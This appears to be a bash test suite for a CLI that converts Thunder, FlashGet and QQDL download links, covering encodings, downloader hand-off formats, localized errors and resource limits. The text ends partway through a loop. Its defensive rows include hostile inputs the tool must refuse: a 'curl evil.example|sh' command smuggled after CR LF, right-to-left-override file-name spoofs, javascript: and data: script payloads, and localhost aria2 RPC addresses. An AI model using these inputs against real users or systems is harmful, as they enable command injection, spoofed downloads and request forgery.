#!/usr/bin/env bash
# zentrova-cli as scripts meet it: results on stdout, failures on stderr, exit statuses, and
# files that are never lost or confused with others.
#   cli_test.sh PROGRAM     (zentrova-cli, or zentrova-cli.exe, which runs under wine64)
# A few cases ask what only one kind of system has (names that are bytes, signals, a pseudo-
# terminal); elsewhere they are skipped, and say so.
set -u
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
passed=0 failed=0
if [[ $1 == *.exe ]]; then
  windows=1
  # One Wine server for every case: a server that ends between two cases (it does when no Wine
  # program has run for a while) can drop the next case's connection as it starts ("wine client
  # error: recvmsg: Connection reset by peer").
  wineserver -k 2>/dev/null
  wineserver -p
  trap 'wineserver -k 2>/dev/null; rm -rf "$work"' EXIT
  # Every case runs the program by one path, from this shell and from the shells it starts.
  cli="$work/zentrova-cli"
  printf '#!/bin/sh\nexec "%s" "%s" "$@"\n' "$(command -v wine64 || echo /usr/lib/wine/wine64)" \
    "$(realpath "$1")" >"$cli"
  chmod +x "$cli"
  cli_exe=$(realpath "$1") wine=$(command -v wine64 || echo /usr/lib/wine/wine64)
else
  windows=0
  cli=$(realpath "$1")
fi
skip() { echo "SKIP $1"; }

# expect NAME STATUS STDOUT STDERR-SUBSTRING -- COMMAND...
expect() {
  local name=$1 status=$2 out=$3 err=$4
  shift 5
  local got_out got_err got_status
  got_out=$("$@" 2>"$work/stderr")
  got_status=$?
  got_err=$(cat "$work/stderr")
  if [[ $got_status == "$status" && $got_out == "$out" && $got_err == *"$err"* ]]; then
    passed=$((passed + 1))
  else
    failed=$((failed + 1))
    echo "FAIL $name: status $got_status, stdout '$got_out', stderr '$got_err'"
  fi
}

# truth NAME COMMAND...: the command succeeds.
truth() {
  local name=$1
  shift
  if "$@"; then passed=$((passed + 1)); else failed=$((failed + 1)) && echo "FAIL $name"; fi
}

# Links.
expect "thunder" 0 "thunder://QUFodHRwOi8vYS9iWlo=" "" -- "$cli" link thunder http://a/b
expect "flashget" 0 "flashget://aHR0cDovL2EvYg==" "" -- "$cli" link flashget http://a/b
expect "qqdl" 0 "qqdl://aHR0cDovL2EvYg==" "" -- "$cli" link qqdl http://a/b
expect "decode" 0 "http://a/中" "" -- "$cli" link decode "thunder://QUFodHRwOi8vYS/W0Fpa"
expect "stdin" 0 "flashget://aHR0cDovL2EvYg==" "" -- bash -c "echo http://a/b | '$cli' link flashget"
expect "stdin crlf" 0 "qqdl://aHR0cDovL2EvYg==" "" -- bash -c "printf ' http://a/b\r\n\r\n' | '$cli' link qqdl"
expect "blanks around" 0 "thunder://QUFodHRwOi8vaC9mWlo=" "" -- "$cli" link thunder $' \thttp://h/f \r\n'
expect "decode blanks" 0 "http://a/b" "" -- "$cli" link decode $'\tflashget://aHR0cDovL2EvYg== \n'
expect "not http" 1 "" "zentrova-cli: the text holds no http:// address" -- "$cli" link thunder https://a/b
expect "not special" 1 "" "zentrova-cli: the text is not a special link" -- "$cli" link decode "qqdl://"
expect "bad base64" 1 "" "zentrova-cli: error 5: " -- "$cli" link decode "qqdl://@@"
expect "emoji refused" 1 "" "U+1F600" -- "$cli" link thunder "http://h/😀.zip"
expect "emoji lossy" 0 "thunder://QUFodHRwOi8vaC8/Py56aXBaWg==" "" -- "$cli" link thunder --lossy "http://h/😀.zip"
expect "nul refused" 1 "" "U+0000" -- "$cli" link decode "flashget://aHR0cDovL2EvAGI="
expect "escape refused" 1 "" "U+001B" -- "$cli" link decode "flashget://aHR0cDovL2EvG1szMW0="
long="http://h/$(printf '%0200d' 0)"
expect "long link kept whole" 0 "$long" "" -- bash -c "'$cli' link thunder '$long' | '$cli' link decode"

# Lists: one line out for every line in, in order, whatever the file's encoding.
printf '%s\n' "下载: thunder://QUFodHRwOi8vYS9iWlo= 谢谢" "" "谢谢楼主" "http://plain/x" \
  '<a href="flashget://W0ZMQVNIR0VUXWh0dHA6Ly9hL2JbRkxBU0hHRVRd&abc">' >"$work/list.utf8"
{ printf '\xef\xbb\xbf'; cat "$work/list.utf8"; } >"$work/list.bom"
iconv -f UTF-8 -t GBK "$work/list.utf8" >"$work/list.gbk"
expected=$'http://a/b\n\n\nhttp://plain/x\nhttp://a/b'
for list in utf8 bom gbk; do
  expect "batch decode, $list file" 1 "$expected" "list.$list:3: the line holds no special link" -- \
    "$cli" batch decode "$work/list.$list"
done
expect "batch summary" 1 "" "2 converted, 1 passed through, 1 failed" -- \
  bash -c "'$cli' batch decode <'$work/list.gbk' >/dev/null"
expect "batch lines line up" 0 "$(printf '%s\n' "$expected" "$expected")" "" -- \
  bash -c "'$cli' batch decode '$work/list.utf8' - <'$work/list.gbk' 2>/dev/null; true"
expect "batch makes links" 0 $'thunder://QUFodHRwOi8vYS9iWlo=\n\nthunder://QUFodHRwOi8vYS/W0Fpa' \
  "2 converted, 0 passed through, 0 failed" -- \
  bash -c "printf 'http://a/b\n\nsee http://a/中\n' | '$cli' batch thunder"
expect "batch utf-8 links" 0 "http://a/中" "" -- \
  bash -c "echo http://a/中 | '$cli' batch qqdl --charset utf-8 | '$cli' batch decode --charset utf-8"
expect "batch lossy line fails" 1 "" "standard input:1: code page 936 cannot hold U+1F600" -- \
  bash -c "echo 'http://a/😀' | '$cli' batch flashget"
# Lines as files really end them, and lines whose file mixes its encodings.
printf 'http://a/1\rthunder://QUFodHRwOi8vYS9iWlo=\r\nhttp://a/2\n\rhttp://a/3' >"$work/mac.txt"
expect "batch CR, CR LF and LF all end lines" 0 $'http://a/1\nhttp://a/b\nhttp://a/2\n\nhttp://a/3' \
  "" -- "$cli" batch decode "$work/mac.txt"
{ printf 'http://a/中\n'; printf 'http://a/\xd6\xd0\n'; printf 'http://a/\xff\xfe\n'; } >"$work/mixed.txt"
expect "batch reads a line in the other encoding, refuses one in neither" 1 \
  $'http://a/中\nhttp://a/中' "mixed.txt:3: the line is neither UTF-8 nor GBK" -- \
  "$cli" batch decode "$work/mixed.txt"
expect "batch reads a short GBK name as GBK" 0 "http://a/水.mp3" "" -- \
  bash -c "printf 'http://a/\xcb\xae.mp3\n' | '$cli' batch decode"
# Into a pipe, each result leaves before any message about a later line.
expect "batch results and messages in order" 0 $'http://a/b\nzentrova-cli: standard input:2: the line holds no special link\n\nhttp://a/c' "" -- \
  bash -c "printf 'http://a/b\nnothing\nhttp://a/c\n' | '$cli' batch decode 2>&1 | grep -v converted"
# A live pipe: the first line's result comes while the list is still being written.
live_pipe() {
  local fifo="$work/live.fifo" out="$work/live.out" writer
  mkfifo "$fifo"
  # Through a pipe, as "tail -f" would be read; a file as output is written in large pieces.
  "$cli" batch decode <"$fifo" 2>/dev/null | cat >"$out" &
  exec {writer}>"$fifo"
  printf 'qqdl://aHR0cDovL2EvYg==\n' >&$writer
  local deadline=$((SECONDS + 60)) ok=1
  until [[ $(cat "$out") == "http://a/b" ]]; do
    ((SECONDS > deadline)) && { ok=0; break; }
    sleep 0.05
  done
  exec {writer}>&-
  wait
  ((ok))
}
truth "batch converts a live pipe's lines as they come" live_pipe
expect "batch missing file" 1 "http://plain/x" "'$work/absent'" -- \
  bash -c "echo http://plain/x | '$cli' batch decode '$work/absent' -"
expect "batch bad charset" 2 "" "--charset 'latin1'" -- "$cli" batch decode --charset latin1
expect "batch bad kind" 2 "" "unknown link kind 'ed2k'" -- "$cli" batch ed2k

# What a link carries is refused when it would mislead or run as a command, by link and batch
# alike, the character named.
q() { printf 'qqdl://%s' "$(printf "$1" | base64 -w0)"; }
# (link reads a link's bytes in code page 936, as the window does: there they are controls.)
# (Its bytes count as UTF-8 too, whatever reading made the text: code page 936 reads most of
# these as Chinese.)
while IFS='#' read -r name payload named; do
  expect "link refuses $name" 1 "" "$named" -- "$cli" link decode "$(q "$payload")"
  for charset in utf-8 auto 936; do
    expect "batch refuses $name, $charset" 1 "" "standard input:1: the address holds the" -- \
      bash -c "printf '%s\n' '$(q "$payload")' | '$cli' batch decode --charset $charset"
  done
done <<'ROWS'
a command after CR LF#http://a/\r\ncurl evil.example|sh\r\n#U+000D
a right-to-left override#http://a/\xe4\xb8\x8b\xe8\xbd\xbd\xe2\x80\xaegpj.exe#U+202E
a right-to-left override alone#http://a.example/\xe2\x80\xaegpj.exe#U+202E
a line separator#http://a/b\xe2\x80\xa8c#U+2028
a next-line character#http://a/b\xc2\x85c#U+0085
direction marks around a word#http://a.example/\xe2\x80\x8finvoice\xe2\x80\x8e.pdf#U+200F
a byte-order mark inside#http://a/\xef\xbb\xbfb#U+FEFF
a word joiner#http://a/b\xe2\x81\xa0c.zip#U+2060
a zero-width space#http://a/b\xe2\x80\x8bc.zip#U+200B
a Hangul filler#http://a/\xe3\x85\xa4c.exe#U+3164
ROWS
expect "batch keeps a GBK name whose bytes hold a UTF-8 C1 control by chance" 0 "http://a/新聞.zip" "" -- \
  bash -c "printf '%s\n' '$(q 'http://a/\xd0\xc2\xc2\x84.zip')' | '$cli' batch decode"
expect "link refuses a direction mark in a plain address" 1 "" "U+202E at position 10" -- \
  "$cli" link decode $'http://a/\u202egpj.exe'
expect "link names the control character's position" 1 "" "U+000D at position 10" -- \
  "$cli" link decode "$(q 'http://a/\r\nx')"
expect "batch refuses a javascript: address" 1 "" "'javascript:' address" -- \
  bash -c "printf '%s\n' '$(q 'javascript:alert(document.domain)//')' | '$cli' batch decode"
expect "batch refuses a data: address" 1 "" "'data:' address" -- \
  bash -c "printf '%s\n' '$(q 'data:text/html,<script>alert(1)</script>')' | '$cli' batch decode"
thunder_utf8="thunder://$(printf 'AAhttp://a/x\xe2\x80\x94ZZ' | base64 -w0)"
expect "a UTF-8 Thunder link ending in a dash is read inside its wrapper" 0 "http://a/x—" "" -- \
  bash -c "printf '%s\n' '$thunder_utf8' | '$cli' batch decode"
expect "a link after a full-width mark is found" 0 $'http://a/b\nhttp://a/b\nhttp://a/b' "" -- \
  bash -c "printf '下载：%s\n1、%s\n「%s」\n' thunder://QUFodHRwOi8vYS9iWlo= thunder://QUFodHRwOi8vYS9iWlo= thunder://QUFodHRwOi8vYS9iWlo= | '$cli' batch decode"

# The hand-off forms: the bytes a link carried, escaped, and the name a person reads.
gbk_thunder="thunder://$(printf 'AAhttp://h/\xb5\xe7\xd3\xb0 \xb5\xda1\xbc\xaf.mkvZZ' | base64 -w0)"
printf '%s\n%s\n\n%s\nqqdl://@@\n%s\n' "$gbk_thunder" "$(q 'http://h/\xe4\xb8\xad.zip')" \
  "$(q 'ed2k://|file|x|1|h|/')" "$gbk_thunder" >"$work/handoff.txt"
expect "aria2: each download once, escaped bytes, readable names, no ed2k" 1 \
  $'http://h/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv\n  out=电影 第1集.mkv\nhttp://h/%E4%B8%AD.zip\n  out=中.zip' \
  "handoff.txt:4: aria2 cannot download the ed2k address; left out" -- \
  "$cli" batch decode --to aria2 "$work/handoff.txt"
expect_ef2() {
  [[ $("$cli" batch decode --to ef2 "$work/handoff.txt" 2>/dev/null | od -An -c | tr -s ' \n' ' ') == \
    "$(printf '<\r\nhttp://h/%%B5%%E7%%D3%%B0%%20%%B5%%DA1%%BC%%AF.mkv\r\n>\r\n<\r\nhttp://h/%%E4%%B8%%AD.zip\r\n>\r\n' | od -An -c | tr -s ' \n' ' ')" ]]
}
truth "ef2: IDM's export, CR LF, server downloads only" expect_ef2
# An address on this machine never goes to a downloader, which would fetch it past every
# protection a browser has; the readable forms keep it.
printf '%s\n' "$(q 'http://127.1:6800/jsonrpc?method=aria2.addUri')" 'http://h/a.zip' \
  'http://user@localhost./b.zip' 'https://[::1]:8443/c.zip' 'ftp://2130706433/d.zip' >"$work/local.txt"
for form in aria2 ef2; do
  name=$'\n  out=a.zip'
  [[ $form == ef2 ]] && name=""
  expect "$form: line 1 on this machine left out" 0 "" \
    "local.txt:1: the address names this machine, which a downloader would reach past the protections a browser gives; left out" -- \
    bash -c "'$cli' batch decode --to $form '$work/local.txt' >/dev/null"
  expect "$form: only the other machine's download, each local line named" 0 \
    "http://h/a.zip$name"$'\nlocal.txt:1:\nlocal.txt:3:\nlocal.txt:4:\nlocal.txt:5:' "" -- \
    bash -c "'$cli' batch decode --to $form '$work/local.txt' 2>'$work/local.err' | tr -d '<>\r' | grep .; grep -o 'local.txt:[0-9]*: the address names this machine' '$work/local.err' | cut -d' ' -f1"
done
expect "json and lines keep an address on this machine" 0 "5 5" "" -- \
  bash -c "echo \$('$cli' batch decode --to json '$work/local.txt' | grep -c '\"uri\"') \$('$cli' batch decode '$work/local.txt' | grep -c //)"
expect "link decode keeps an address on this machine" 0 "http://127.1:6800/jsonrpc?method=aria2.addUri" "" -- \
  "$cli" link decode "$(q 'http://127.1:6800/jsonrpc?method=aria2.addUri')"
# This machine as its hosts file knows it (a scratch one here), by its own name, and by the
# names resolvers make up for it; ed2k links by the servers, lists and sources they name. No
# name is looked up: the far names below exist nowhere.
printf '%s\n' '127.0.0.1 localhost' '127.0.1.1 box.scratch.example scratchbox' '::1 ip6-scratch' \
  '0.0.0.0 blocked.example' '203.0.113.4 far.example' >"$work/hosts"
own=$(hostname)
kinds=() addresses=()
while IFS=' ' read -r here address; do
  kinds+=("$here")
  addresses+=("$address")
done <<LINKS
here http://scratchbox:6800/jsonrpc?method=aria2.addUri
here http://BOX.scratch.example./a.zip
here http://ip6-scratch/a.zip
here http://blocked.example/a.zip
here http://$own:6800/jsonrpc
here http://${own%%.*}/a.zip
here http://localhost.localdomain/a.zip
here http://localhost4/a.zip
here http://localhost6.localdomain6/a.zip
here magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567&tr=http://scratchbox:6800/jsonrpc
here ed2k://|server|127.0.0.1|4661|/
here ed2k://|serverlist|http://scratchbox/server.met|/
here ed2k://|nodeslist|http://localhost/nodes.dat|/
here ed2k://|file|a.zip|1|0123456789ABCDEF0123456789ABCDEF|/|sources,203.0.113.9:4662,127.0.0.1:4662|/
far http://far.example/a.zip
far http://scratchbox.example/a.zip
far magnet:?xt=urn:btih:0123456789abcdef0123456789abcdef01234567&tr=http://far.example/announce
LINKS
# One list, one run: each line's note, or its absence, says how the line was taken.
for address in "${addresses[@]}"; do printf '%s\n' "$(q "$address")"; done >"$work/here.txt"
ZENTROVA_HOSTS_FILE="$work/hosts" "$cli" batch decode --to aria2 "$work/here.txt" \
  >/dev/null 2>"$work/here.err"
for i in "${!addresses[@]}"; do
  noted=far
  grep -q "here.txt:$((i + 1)): the address names this machine" "$work/here.err" && noted=here
  if [[ $noted == "${kinds[i]}" ]]; then
    passed=$((passed + 1))
  else
    failed=$((failed + 1))
    echo "FAIL aria2 hand-off of ${addresses[i]}: taken as $noted, but it is ${kinds[i]}:"
    cat "$work/here.err"
  fi
done
printf '%s\n' "$(q 'http://scratchbox/a.zip')" >"$work/here.txt"
expect "without the scratch hosts file its names are other machines'" 0 \
  "http://scratchbox/a.zip"$'\n  out=a.zip' "" -- \
  "$cli" batch decode --to aria2 "$work/here.txt"
# A byte-order mark makes the list UTF-8, also for a line whose UTF-8 bytes GBK reads too.
printf '\xef\xbb\xbfhttp://h/a.zip\nhttp://h/\xc5\x82\xc3\xb3d\xc5\xba.zip\n' >"$work/bom.txt"
expect "aria2: after a byte-order mark, UTF-8 stays UTF-8" 0 \
  $'http://h/a.zip\n  out=a.zip\nhttp://h/%C5%82%C3%B3d%C5%BA.zip\n  out=łódź.zip' "" -- \
  "$cli" batch decode --to aria2 "$work/bom.txt"
# Names every system can create: a device name gives no name (the download stays), a trailing
# dot or space goes, a drive colon and the other marks Windows refuses stay escaped.
printf '%s\n' 'http://h/NUL' 'http://h/%20con.txt' 'http://h/x.exe.%20%20' 'http://h/C:evil.exe' \
  'http://h/%22q%22%3C%3E%7C.txt' >"$work/names.txt"
expect "aria2: names safe on every system" 0 \
  $'http://h/NUL\nhttp://h/%20con.txt\nhttp://h/x.exe.%20%20\n  out=x.exe\nhttp://h/C:evil.exe\n  out=C%3Aevil.exe\nhttp://h/%22q%22%3C%3E%7C.txt\n  out=%22q%22%3C%3E%7C.txt' \
  "" -- "$cli" batch decode --to aria2 "$work/names.txt"
expect "json: a device name is no name" 0 '"name":null "name":null "name":"x.exe"' "" -- \
  bash -c "'$cli' batch decode --to json '$work/names.txt' | grep -o '\"name\":[^,]*' | head -3 | paste -sd ' '"
expect "json: one object a line" 0 \
  "$(printf '%s\n' '{"line":1,"address":"http://h/电影 第1集.mkv","uri":"http://h/%B5%E7%D3%B0%20%B5%DA1%BC%AF.mkv","name":"电影 第1集.mkv","link":"'"$gbk_thunder"'","kind":"thunder","charset":"936"}' '{"line":2,"address":"http://h/中.zip","uri":"http://h/%E4%B8%AD.zip","name":"中.zip","link":"'"$(q 'http://h/\xe4\xb8\xad.zip')"'","kind":"qqdl","charset":"utf-8"}' '{"line":3}')" \
  "" -- bash -c "'$cli' batch decode --to json '$work/handoff.txt' | head -3"
expect "lines stay the default" 1 "$("$cli" batch decode "$work/handoff.txt" 2>/dev/null)" "" -- \
  "$cli" batch decode --to lines "$work/handoff.txt" 2>/dev/null
expect "making links to aria2 is a usage error" 2 "" "--to aria2 holds only decoded addresses" -- \
  "$cli" batch thunder --to aria2
expect "making links to ef2 is a usage error" 2 "" "--to ef2" -- "$cli" batch qqdl --to=ef2
expect "making links to json" 0 '{"line":1,"address":"http://a/b","link":"thunder://QUFodHRwOi8vYS9iWlo=","kind":"thunder","charset":"ascii"}' "" -- \
  bash -c "echo http://a/b | '$cli' batch thunder --to json"
expect "an unknown form is a usage error" 2 "" "--to 'idm' is none of lines, aria2, ef2 and json" -- \
  "$cli" batch decode --to idm
# A GBK name inside a Thunder link whose first bytes look like the lead of a UTF-8 character
# (F7 A1 B0 of 鳌 and 搬) is read as GBK, in a list of either encoding.
payload=$(printf 'AAhttp://a/\xf7\xa1\xb0\xe1\xa1\xa1.zipZZ' | base64 -w0)
printf '迅雷 thunder://%s\n' "$payload" >"$work/gbk-name.utf8"
iconv -f UTF-8 -t GBK "$work/gbk-name.utf8" >"$work/gbk-name.gbk"
for list in utf8 gbk; do
  expect "batch reads a GBK name in a Thunder link, $list file" 0 "http://a/鳌搬　.zip" \
    "1 converted, 0 passed through, 0 failed" -- "$cli" batch decode "$work/gbk-name.$list"
done

# Usage.
expect "bad kind" 2 "" "unknown link kind" -- "$cli" link ed2k http://a/b
expect "no command" 2 "" "no command" -- "$cli"
expect "bad command" 2 "" "unknown command" -- "$cli" frobnicate
expect "unknown option" 2 "" "unknown option '--frob'" -- "$cli" encode-file --frob a b
expect "unknown link option" 2 "" "unknown option '-x'" -- "$cli" link thunder -x http://a/b
expect "version" 0 "zentrova-cli $ZENTROVA_VERSION" "" -- "$cli" --version
expect "version, short" 0 "zentrova-cli $ZENTROVA_VERSION" "" -- "$cli" -V
# An option belongs to the commands its row names, and a switch takes no value: anything else
# is a usage error that names the word as given.
while IFS='|' read -r name message args; do
  read -ra words <<<"$args"
  expect "$name" 2 "" "$message" -- "$cli" "${words[@]}"
done <<'CASES'
--lossy is link's only|unknown option '--lossy'|batch decode --lossy
--to is batch's only|unknown option '--to=json'|link decode --to=json x
--block-size is not link's|unknown option '--block-size'|link thunder --block-size 5 http://a/b
--charset is not the files'|unknown option '--charset'|encode-file --charset auto a b
a switch takes no value|unknown option '--lossy=yes'|link thunder --lossy=yes http://a/b
--help is no command's option|unknown option '--help'|link thunder --help
a short name is not a command's option|unknown option '-h'|batch decode -h
a value missing at the end|--to needs a value|batch decode --to
a value missing, spelled short|--block-size needs a value|encode-file a b --block-size
a value that looks like an option|--charset '--to' is none of auto, 936 and utf-8|batch decode --charset --to lines
CASES
expect "after --, an option's name is the text" 1 "" "the text is not a special link" -- \
  "$cli" link decode -- --lossy
expect "a value after =" 0 "flashget://aHR0cDovL2EvYg==" "" -- bash -c \
  "echo http://a/b | '$cli' batch flashget --to=lines --charset=936 2>/dev/null"
help=$("$cli" --help)
truth "help names every command" \
  test "$(grep -c -e encode-file -e decode-file -e 'link thunder' -e --lossy <<<"$help")" -ge 4
expect "files missing" 2 "" "give an input and an output" -- "$cli" encode-file only-one
for value in lots -1 -53 -55 -584 0 2147483611 2147483647 99999999999999999999 "" 12x; do
  expect "block size '$value'" 2 "" "--block-size '$value'" -- \
    "$cli" encode-file a b --block-size "$value"
done

# Messages in the user's language: Chinese under a Chinese locale, English otherwise (the
# other cases run in English).
in_chinese() { LC_ALL=zh_CN.UTF-8 "$@"; }
truth "help in Chinese" bash -c "LC_ALL=zh_CN.UTF-8 '$cli' --help | grep -q '^用法：'"
truth "help in English" bash -c "'$cli' --help | grep -q '^Usage:'"
expect "usage error in Chinese" 2 "" "zentrova-cli: 未知命令“frob”" -- in_chinese "$cli" frob
expect "option error in Chinese" 2 "" "zentrova-cli: --charset“latin1”不是 auto、936 或 utf-8" -- \
  in_chinese "$cli" batch decode --charset latin1
expect "link failure in Chinese" 1 "" "zentrova-cli: 文本不是专用链接" -- in_chinese "$cli" link decode x
expect "lost characters in Chinese" 1 "" "代码页 936 容纳不了 U+1F600" -- \
  in_chinese "$cli" link thunder "http://h/😀.zip"
expect "file error in Chinese" 1 "" "zentrova-cli: 错误 90002：" -- \
  in_chinese "$cli" encode-file "$work/absent" "$work/x"
expect "batch in Chinese" 1 "http://a/b" "标准输入:2: 该行没有专用链接" -- \
  bash -c "printf 'http://a/b\nnothing\n' | LC_ALL=zh_CN.UTF-8 '$cli' batch decode"
expect "batch summary in Chinese" 1 "http://a/b" "已转换 0 行，原样保留 1 行，失败 1 行" -- \
  bash -c "printf 'http://a/b\nnothing\n' | LC_ALL=zh_CN.UTF-8 '$cli' batch decode"
expect "standard input too long in Chinese" 1 "" "标准输入超过 64 MB" -- \
  bash -c "head -c \$(((64 << 20) + 1)) /dev/zero | LC_ALL=zh_CN.UTF-8 '$cli' link decode"
# The catalogue is found from where the program stands, with nothing in the environment
# pointing at it: installed (share/locale beside bin/, any prefix), or beside the program in
# the build folder (locale/). A folder named in ZENTROVA_LOCALEDIR is used alone. The suite
# runs without ZENTROVA_LOCALEDIR, so the Chinese cases above find it the same way.
in_zh_cn() { env -u LC_ALL -u LC_MESSAGES -u LANGUAGE -u ZENTROVA_LOCALEDIR LANG=zh_CN.UTF-8 "$@"; }
decoded_in() {  # decoded_in LANGUAGE-WORD PROGRAM [VAR=VALUE...]
  local words=$1 program=$2
  shift 2
  local said
  said=$(in_zh_cn env "$@" "$program" link decode qqdl://@@@@ 2>&1)
  [[ $said == *"$words"* ]] || { echo "  said: $said"; false; }
}
chinese="文本不是专用链接" english="the text is not a special link"
if ((windows)); then
  skip "the catalogue's folders: the Windows program carries its catalogue inside"
else
  catalogue=$(dirname "$cli")/locale
  truth "the build folder's catalogue, beside the program" decoded_in "$chinese" "$cli"
  truth "ZENTROVA_LOCALEDIR naming a catalogue" decoded_in "$chinese" "$cli" \
    ZENTROVA_LOCALEDIR="$catalogue"
  truth "ZENTROVA_LOCALEDIR naming a folder without one is used alone" decoded_in "$english" \
    "$cli" ZENTROVA_LOCALEDIR="$work"
  mkdir -p "$work/prefix/bin" "$work/prefix/share" "$work/alone"
  cp "$cli" "$work/prefix/bin/"
  cp -r "$catalogue" "$work/prefix/share/locale"
  truth "an installed catalogue, found from the program" decoded_in "$chinese" \
    "$work/prefix/bin/zentrova-cli"
  cp "$cli" "$work/alone/"
  if decoded_in "$english" "$work/alone/zentrova-cli" >/dev/null; then
    passed=$((passed + 1))
  else
    skip "a copy far from any catalogue speaks English: this machine has one installed"
  fi
fi

# The codec's failures in the reader's language, each with its code: the codec describes them
# in Chinese, and the client says them through the catalogue.
printf 'QUJD*' >"$work/bad.b64"
said_in() {  # LANGUAGE WORDS COMMAND...: the command fails and says WORDS in that language
  local language=$1 words=$2
  shift 2
  local said
  said=$(env -u LC_ALL -u LC_MESSAGES -u LANGUAGE LANG="$language" "$@" 2>&1 >/dev/null) && return 1
  [[ $said == *"$words"* ]] || { echo "  said: $said"; false; }
}
while IFS='|' read -r language words command; do
  truth "in $language: $words" said_in "$language" "$words" bash -c "$command"
done <<CASES
C.UTF-8|error 90002: the file does not exist or cannot be opened: $work/none|'$cli' decode-file '$work/none' '$work/o'
zh_CN.UTF-8|错误 90002：文件不存在 / 打开文件错误:$work/none|'$cli' decode-file '$work/none' '$work/o'
en_US.UTF-8|error 5: block 1 of 1 cannot be decoded and was skipped, 3 bytes fewer written. the Base64 text is not valid: byte 5 (U+002A '*') is not in the Base64 alphabet|'$cli' decode-file '$work/bad.b64' '$work/o'
zh_CN.UTF-8|错误 5：第 1 块（共 1 块）无法解码，已跳过，少写 3 字节。Base64 文本无效：第 5 个字节（U+002A '*'）不属于 Base64 字母表|'$cli' decode-file '$work/bad.b64' '$work/o'
C.UTF-8|error 5: the Base64 text is not valid: character 13 (U+002A '*') is not in the Base64 alphabet|'$cli' link decode 'thunder://QUFodHRwOi8v*YS9iWlo='
zh_CN.UTF-8|错误 5：Base64 文本无效：第 13 个字符（U+002A '*'）不属于 Base64 字母表|'$cli' link decode 'thunder://QUFodHRwOi8v*YS9iWlo='
C.UTF-8|error 75: the input file and the output file are the same file|'$cli' encode-file '$work/bad.b64' '$work/bad.b64'
zh_CN.UTF-8|错误 75：输入文件与输出文件是同一个文件|'$cli' encode-file '$work/bad.b64' '$work/bad.b64'
CASES
if ((windows)); then
  skip "the system's words for a full disk: Windows has no /dev/full"
else
  truth "in English: the system's words too" said_in C.UTF-8 \
    "error 61: writing '/dev/full' failed: No space left on device" \
    "$cli" encode-file "$work/bad.b64" /dev/full
  truth "in Chinese: the system's words too" said_in zh_CN.UTF-8 \
    "错误 61：写入失败 '/dev/full'：设备上没有空间" "$cli" encode-file "$work/bad.b64" /dev/full
fi

# Standard output that cannot be written.
expect "link to a full disk" 1 "" "No space left on device" -- bash -c "'$cli' link thunder http://h/f >/dev/full"
expect "link to a closed stdout" 1 "" "Bad file descriptor" -- bash -c "'$cli' link thunder http://h/f >&-"
expect "help to a full disk" 1 "" "No space left on device" -- bash -c "'$cli' --help >/dev/full"
expect "stdin closed" 1 "" "cannot read standard input" -- bash -c "'$cli' link thunder <&-"

# Out of memory: an error, never a bare prefix or an abort.
if [[ ${MEMORY_LIMITS_APPLY:-1} == 1 ]]; then
  head -c 30000000 /dev/zero | tr '\0' a | sed 's|^|http://h/|' >"$work/long"
  expect "out of memory" 1 "" "error 7" -- bash -c "ulimit -v 120000; '$cli' link thunder <'$work/long'"
  expect "out of memory decoding" 1 "" "error 7" -- \
    bash -c "'$cli' link flashget <'$work/long' >'$work/long.link'; ulimit -v 150000; '$cli' link decode <'$work/long.link'"
fi

# A line longer than a list converts (64 MiB) is refused with its number and never held whole;
# the lines after it are converted, one result line each.
{ printf 'http://h/a\nhttp://h/'; head -c $((65 << 20)) /dev/zero | tr '\0' a
  printf '\r\nqqdl://aHR0cDovL2EvYg==\n'; } >"$work/long-line.txt"
expect "batch refuses a line too long and converts the rest" 1 $'http://h/a\n\nhttp://a/b' \
  "long-line.txt:2: the line is longer than 64 MB, more than a list converts" -- \
  "$cli" batch decode "$work/long-line.txt"
expect "batch counts the line too long as failed" 1 "" "1 converted, 1 passed through, 1 failed" -- \
  bash -c "'$cli' batch decode --to aria2 <'$work/long-line.txt' >/dev/null"
if [[ ${MEMORY_LIMITS_APPLY:-1} == 1 ]]; then
  expect "a line too long costs little memory" 1 $'http://h/a\n\nhttp://a/b' "standard input:2:" -- \
    bash -c "ulimit -v 400000; '$cli' batch decode <'$work/long-line.txt'"
fi
rm -f "$work/long-line.txt"

# link reads no more of standard input than a list takes on a line (64 MiB): an endless input
# ends in a message, not in all memory (or, under a limit, in running out of it).
limit=""
[[ ${MEMORY_LIMITS_APPLY:-1} == 1 ]] && limit="ulimit -v 150000;"
too_much="zentrova-cli: standard input holds more than 64 MB, more than a list takes on a line; nothing was converted"
truncate -s 100M "$work/endless"  # sparse: no disk taken
expect "link stops reading endless zeros" 1 "" "$too_much" -- \
  bash -c "$limit '$cli' link decode </dev/zero"
expect "link stops reading an endless pipe" 1 "" "$too_much" -- \
  bash -c "$limit yes http://h/a | '$cli' link thunder"
expect "link stops reading a file too long" 1 "" "$too_much" -- \
  bash -c "$limit '$cli' link flashget <'$work/endless'"
# What the program took of the file is where the shared file position stands after it.
expect "link reads hardly more than 64 MB of a longer file" 0 "yes" "" -- \
  bash -c "'$cli' link decode 2>/dev/null; pos=\$(sed -n 's/^pos:[[:space:]]*//p' /proc/\$\$/fdinfo/0); ((pos > 0 && pos <= (64 << 20) + 65536)) && echo yes" \
  <"$work/endless"
expect "link takes standard input of exactly 64 MB" 1 "" "the text is not a special link" -- \
  bash -c "head -c $((64 << 20)) '$work/endless' | '$cli' link decode"
rm -f "$work/endless"

# batch never reads its own results: an output that is one of its inputs, by whatever name or
# stream it is reached, is refused before anything is written, and the list stays as it was.
printf '%s\n' "$(q 'http://h/a.zip')" http://h/b >"$work/own.txt"
printf 'http://h/other\n' >"$work/other.txt"
cp "$work/own.txt" "$work/own.keep"
ln -s own.txt "$work/own.link"
ln "$work/own.txt" "$work/own.hard"
said="the list would read its own results without end; nothing was converted"
# Under Wine the standard handles that a Unix shell's redirections give say nothing of their
# file, so there the rows run in Wine's own shell, as a Windows user's would; it has no
# /dev/stdin or `1<>`, and its `<` and `>>` of one file never start the program.
while IFS='#' read -r name words message; do
  run="'$cli' batch decode $words"
  if ((windows)); then
    if [[ $words == *'<'* ]]; then
      skip "batch refuses $name: no Windows shell gives the program that"
      continue
    fi
    run="'$wine' cmd /c \"$(winepath -w "$cli_exe" 2>/dev/null) batch decode $words\""
  fi
  cp "$work/own.keep" "$work/own.txt"  # in place: the other name stays the same file
  expect "batch refuses $name" 1 "" "zentrova-cli: $message: $said" -- bash -c "cd '$work' && $run"
  truth "batch left its input whole, $name" cmp "$work/own.txt" "$work/own.keep"
